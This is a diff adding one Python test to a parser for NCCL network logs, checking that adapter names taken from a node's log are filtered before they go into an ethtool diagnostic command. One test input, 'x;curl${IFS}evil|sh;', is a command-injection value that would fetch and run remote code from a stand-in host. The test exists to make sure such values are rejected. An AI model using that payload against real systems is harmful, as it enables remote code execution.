@@ -155,3 +155,9 @@ def test_completions_with_errors(name: str, hca: str) -> None:
 def test_other_lines_are_nobodys_business(line: str) -> None:
     """What isn't NCCL's own, or is cut, leaves nothing."""
     assert parse_log([line]) == NcclLog()
+
+
+def test_an_adapter_whose_name_is_no_name_stays_out_of_the_fix() -> None:
+    """It comes from a node's log, and the fix is for a shell."""
+    assert _counters(NcclLog(completions=("mlx5_0:1",))).startswith("; ethtool -S $(ls /sys/class/infiniband/mlx5_0/")
+    assert _counters(NcclLog(completions=("x;curl${IFS}evil|sh;",))) == ""
